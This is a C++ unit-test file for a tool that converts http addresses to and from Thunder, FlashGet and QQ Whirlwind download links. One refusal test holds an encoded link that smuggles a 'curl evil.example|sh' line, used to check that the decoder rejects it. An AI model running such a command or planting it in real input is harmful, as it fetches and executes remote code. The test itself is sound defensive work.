#include "links/link_commands.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "codec/code_page.h"
#include "codec/xml_dom.h"
#include "fake_surface.h"
#include "links/link_formats.h"

namespace zentrova {
namespace {

using ::testing::ElementsAre;
using testing::FakeClipboard;
using testing::FakeTextBox;
using ::testing::IsEmpty;

using Command = void (*)(LinkSurface&);

struct Scene {
  explicit Scene(std::u16string input = {}, std::u16string clip = {})
      : TxtRes(std::move(input)), clipboard(std::move(clip)) {}
  void Run(Command command) {
    LinkSurface surface{TxtRes, TxtOut, clipboard, codec};
    command(surface);
  }
  FakeTextBox TxtRes;
  FakeTextBox TxtOut;
  FakeClipboard clipboard;
  std::unique_ptr<Base64> codec;
};

class LinkCommandsTest : public ::testing::Test {
 protected:
  void SetUp() override { ASSERT_TRUE(codepage::SetNarrowCodePage(936)); }
  void TearDown() override { xml::ComponentRegistry::RestoreDefaults(); }
};

struct Published {
  const char* name;
  Command command;
  std::u16string source;
  std::u16string result;
};

TEST_F(LinkCommandsTest, WorkedExamplesFromTheInputBoxAndFromTheClipboard) {
  const Published rows[] = {
      {"XL", EncodeToXL, u"http://a/b", u"thunder://QUFodHRwOi8vYS9iWlo="},
      {"FG", EncodeToFG, u"http://a/b", u"flashget://aHR0cDovL2EvYg=="},
      {"XF", EncodeToXF, u"http://a/b", u"qqdl://aHR0cDovL2EvYg=="},
      {"XL zh", EncodeToXL, u"http://a/中", u"thunder://QUFodHRwOi8vYS/W0Fpa"},
      {"back XL", DecodeToPlain, u"thunder://QUFodHRwOi8vYS9iWlo=", u"http://a/b"},
      {"back FG", DecodeToPlain, u"flashget://aHR0cDovL2EvYg==", u"http://a/b"},
      {"back XF", DecodeToPlain, u"qqdl://aHR0cDovL2EvYg==", u"http://a/b"},
      {"back zh", DecodeToPlain, u"thunder://QUFodHRwOi8vYS/W0Fpa", u"http://a/中"},
      {"plain", DecodeToPlain, u"http://a/b", u"http://a/b"},
      // A text given as it is was seen by the user: it is published whole, line breaks and all.
      {"plain with a line break", DecodeToPlain, u"http://a/b\r\nx", u"http://a/b\r\nx"},
  };
  for (const auto& row : rows) {
    SCOPED_TRACE(row.name);
    Scene fromBox(row.source, u"old");
    fromBox.Run(row.command);
    EXPECT_EQ(fromBox.TxtOut.current(), row.result);
    EXPECT_THAT(fromBox.clipboard.calls, ElementsAre("Clear", "SetText " + ToUtf8(row.result)));
    EXPECT_THAT(fromBox.TxtRes.writes, IsEmpty());

    Scene fromClipboard(u"", row.source);
    fromClipboard.Run(row.command);
    EXPECT_EQ(fromClipboard.TxtOut.current(), row.result);
    EXPECT_THAT(fromClipboard.clipboard.calls,
                ElementsAre("GetText", "Clear", "SetText " + ToUtf8(row.result)));
  }
}

struct Refused {
  const char* name;
  Command command;
  std::u16string input;
  std::u16string clip;
  std::u16string failure;
};

TEST_F(LinkCommandsTest, FailureTextLeavesTheClipboardAlone) {
  const std::u16string notHttp = u"剪切板文本不是HTTP链接";
  const std::u16string notSpecial = u"剪切板文本不是专用链接";
  const Refused rows[] = {
      {"https", EncodeToXL, u"https://a/b", u"http://good", notHttp},
      {"https fg", EncodeToFG, u"", u"https://a/b", notHttp},
      {"empty xf", EncodeToXF, u"", u"", notHttp},
      {"spaces", EncodeToFG, u"   ", u"ftp://x", notHttp},
      // A non-empty box wins even over a good clipboard.
      {"box wins", EncodeToXF, u"a/b", u"http://a/b", notHttp},
      {"empty decode", DecodeToPlain, u"", u"", notSpecial},
      {"https inside", DecodeToPlain, u"flashget://aHR0cHM6Ly9hL2I=", u"keep", notSpecial},
      {"bad base64", DecodeToPlain, u"qqdl://@@@@", u"keep", notSpecial},
      {"short thunder", DecodeToPlain, u"thunder://QVo=", u"keep", notSpecial},  // "AZ"
      {"bare thunder", DecodeToPlain, u"thunder://", u"keep", notSpecial},
      // What a link carried, pasted after "wget ", would run its second line as a command.
      {"line breaks inside", DecodeToPlain,
       u"qqdl://aHR0cDovL2EvDQpjdXJsIGV2aWwuZXhhbXBsZXxzaA0K",  // "…\r\ncurl evil.example|sh\r\n"
       u"keep", notSpecial},
      {"NUL inside", DecodeToPlain, u"", u"flashget://aHR0cDovL2EvAGI=", notSpecial},
      {"escape inside thunder", DecodeToPlain, u"thunder://QUFodHRwOi8vYS8bWzMxbVpa", u"keep",
       notSpecial},
      // Thunder inside QQ Whirlwind: opened once, what is left holds no "http://".
      {"nested", DecodeToPlain, u"qqdl://dGh1bmRlcjovL1FVRm9kSFJ3T2k4dllTOWlXbG89", u"keep",
       notSpecial},
      {"text before", DecodeToPlain, u"see qqdl://aHR0cDovL2EvYg==", u"keep", notSpecial},
  };
  for (const auto& row : rows) {
    SCOPED_TRACE(row.name);
    Scene scene(row.input, row.clip);
    scene.TxtOut.SetText(u"previous");
    scene.Run(row.command);
    EXPECT_EQ(scene.TxtOut.current(), row.failure);
    EXPECT_EQ(scene.clipboard.current(), row.clip);
    for (const auto& call : scene.clipboard.calls) EXPECT_EQ(call, "GetText");
    EXPECT_THAT(scene.TxtRes.writes, IsEmpty());
  }
}

TEST_F(LinkCommandsTest, InputBoxLosesOnlySpacesAndClipboardNothing) {
  struct Row {
    const char* name;
    Command command;
    std::u16string input;
    std::u16string clip;
    std::u16string payload;  // what the link carries, decoded
  };
  const Row rows[] = {
      {"box spaces", EncodeToFG, u"  http://a/b  ", u"", u"http://a/b"},
      {"box tab stays", EncodeToFG, u"\thttp://a/b\r\n", u"", u"\thttp://a/b\r\n"},
      {"clip spaces stay", EncodeToXF, u" ", u" http://a/b \n", u" http://a/b \n"},
      {"clip space shifts the cut", EncodeToXL, u"", u" http://a/b", u"AAhttp:///a/bZZ"},
      {"upper case", EncodeToXL, u"HTTP://A/B", u"", u"AAhttp://A/BZZ"},
      {"upper case fg", EncodeToFG, u"HTTP://A/B", u"", u"HTTP://A/B"},
      {"text before", EncodeToXL, u"see http://a/b", u"", u"AAhttp://p://a/bZZ"},
      {"text before fg", EncodeToFG, u"see http://a/b", u"", u"see http://a/b"},
  };
  Base64 reader;
  for (const auto& row : rows) {
    SCOPED_TRACE(row.name);
    Scene scene(row.input, row.clip);
    scene.Run(row.command);
    const std::u16string link = scene.TxtOut.current();
    const auto cut = link.find(u"://");
    ASSERT_NE(cut, std::u16string::npos);
    EXPECT_EQ(reader.Decode(link.substr(cut + 3)), row.payload);
    EXPECT_EQ(scene.clipboard.current(), link);
  }
}

TEST_F(LinkCommandsTest, DecoderRecognisesAnyLetterCaseAndNesting) {
  const Published rows[] = {
      {"upper", DecodeToPlain, u"THUNDER://QUFodHRwOi8vYS9iWlo=", u"http://a/b"},
      {"mixed", DecodeToPlain, u"FlashGet://aHR0cDovL2EvYg==", u"http://a/b"},
      {"QQDL", DecodeToPlain, u"QQDL://aHR0cDovL2EvYg==", u"http://a/b"},
      // FlashGet around QQ Whirlwind around http://a/b, opened in one run.
      {"nested", DecodeToPlain, u"flashget://cXFkbDovL2FIUjBjRG92TDJFdllnPT0=", u"http://a/b"},
      {"shortest", DecodeToPlain, u"thunder://QUFodHRwOi8vWlo=", u"http://"},
      {"upper back", DecodeToPlain, u"thunder://QUFodHRwOi8vQS9CWlo=", u"http://A/B"},
  };
  for (const auto& row : rows) {
    SCOPED_TRACE(row.name);
    Scene scene(row.source);
    scene.Run(row.command);
    EXPECT_EQ(scene.TxtOut.current(), row.result);
    EXPECT_EQ(scene.clipboard.current(), row.result);
  }
}

TEST_F(LinkCommandsTest, LongAddressesMakeMultiLineLinksThatComeBack) {
  const std::u16string address = u"http://example.com/" + std::u16string(200, u'x') + u"/文件.zip";
  for (const Command command : {EncodeToXL, EncodeToFG, EncodeToXF}) {
    Scene encode(address);
    encode.Run(command);
    const std::u16string link = encode.TxtOut.current();
    EXPECT_NE(link.find(u'\n'), std::u16string::npos);
    Scene decode(link);
    decode.Run(DecodeToPlain);
    EXPECT_EQ(decode.TxtOut.current(), address);
  }
}

// Fifty megabytes in the input box or on the clipboard: every command finishes and its result
// is whole (the link holds the address it was made of, the decoder gives it back).
TEST_F(LinkCommandsTest, FiftyMegabyteSourcesConvertWhole) {
  const std::size_t size = 50u << 20;
  std::u16string address = u"http://host/";
  address.resize(size, u'a');
  address.replace(size - 3, 3, u"中文z");
  Scene thunder(address);
  thunder.Run(EncodeToXL);
  const std::u16string link = thunder.TxtOut.current();
  ASSERT_EQ(link.rfind(u"thunder://", 0), 0u);
  EXPECT_EQ(thunder.clipboard.current(), link);

  Scene back({}, link);  // from the clipboard this time
  back.Run(DecodeToPlain);
  EXPECT_TRUE(back.TxtOut.current() == address);  // no 50 MB diff on failure

  std::u16string garbage = u"qqdl://";
  garbage.resize(size, u'@');
  Scene refused({}, garbage);
  refused.Run(DecodeToPlain);
  EXPECT_EQ(refused.TxtOut.current(), links::kNotSpecialLink);
  EXPECT_TRUE(refused.clipboard.current() == garbage);
}

TEST_F(LinkCommandsTest, CodecIsMadeAtFirstNeedAndKeptForEveryRun) {
  Scene scene(u"https://refused");
  scene.Run(EncodeToXL);
  EXPECT_EQ(scene.codec, nullptr);

  scene.TxtRes.SetText(u"http://a/b");
  scene.Run(EncodeToFG);
  ASSERT_NE(scene.codec, nullptr);
  const Base64* first = scene.codec.get();
  for (const Command command : {EncodeToXL, EncodeToXF, DecodeToPlain}) scene.Run(command);
  scene.TxtRes.SetText(u"garbage");
  scene.Run(DecodeToPlain);
  EXPECT_EQ(scene.codec.get(), first);

  // The decoder makes it even for a text it then refuses: it has called Decode.
  Scene decoder(u"qqdl://");
  decoder.Run(DecodeToPlain);
  EXPECT_NE(decoder.codec, nullptr);
}

TEST_F(LinkCommandsTest, CommandsNeverClearTheCodecsError) {
  Scene scene(u"qqdl://!!!!");
  scene.Run(DecodeToPlain);
  const auto code = scene.codec->LastErrorCode();
  EXPECT_NE(code, 0);
  scene.TxtRes.SetText(u"http://a/b");
  scene.Run(EncodeToXF);
  EXPECT_EQ(scene.codec->LastErrorCode(), code);
}

TEST_F(LinkCommandsTest, UnavailableCodecGivesTheBarePrefix) {
  xml::ComponentRegistry::Register(xml::kDomDocumentProgId, nullptr);
  const Published rows[] = {
      {"XL", EncodeToXL, u"http://a/b", u"thunder://"},
      {"FG", EncodeToFG, u"http://a/b", u"flashget://"},
      {"XF", EncodeToXF, u"http://a/b", u"qqdl://"},
  };
  for (const auto& row : rows) {
    Scene scene(row.source);
    scene.Run(row.command);
    EXPECT_EQ(scene.TxtOut.current(), row.result);
    EXPECT_EQ(scene.clipboard.current(), row.result);
  }
  Scene decode(u"flashget://aHR0cDovL2EvYg==");
  decode.Run(DecodeToPlain);
  EXPECT_EQ(decode.TxtOut.current(), u"剪切板文本不是专用链接");
}

class NoElementDocument : public xml::DomDocument {
 public:
  std::unique_ptr<xml::DomElement> CreateElement(std::u16string_view) override {
    throw CodecError(-2147467259, u"未指定的错误");
  }
};

TEST_F(LinkCommandsTest, CodecThatCannotBeMadeStopsTheCommandBeforeItWrites) {
  xml::ComponentRegistry::Register(xml::kDomDocumentProgId,
                                   [] { return std::make_unique<NoElementDocument>(); });
  const std::pair<Command, std::u16string> runs[] = {{EncodeToXL, u"http://a/b"},
                                                     {EncodeToFG, u"http://a/b"},
                                                     {EncodeToXF, u"http://a/b"},
                                                     {DecodeToPlain, u"qqdl://aHR0cDovL2EvYg=="}};
  for (const auto& [command, source] : runs) {
    Scene scene(u"", source);
    EXPECT_THROW(scene.Run(command), CodecError);
    EXPECT_THAT(scene.TxtOut.writes, IsEmpty());
    EXPECT_THAT(scene.clipboard.calls, ElementsAre("GetText"));
    EXPECT_EQ(scene.codec, nullptr);
  }
}

}  // namespace
}  // namespace zentrova
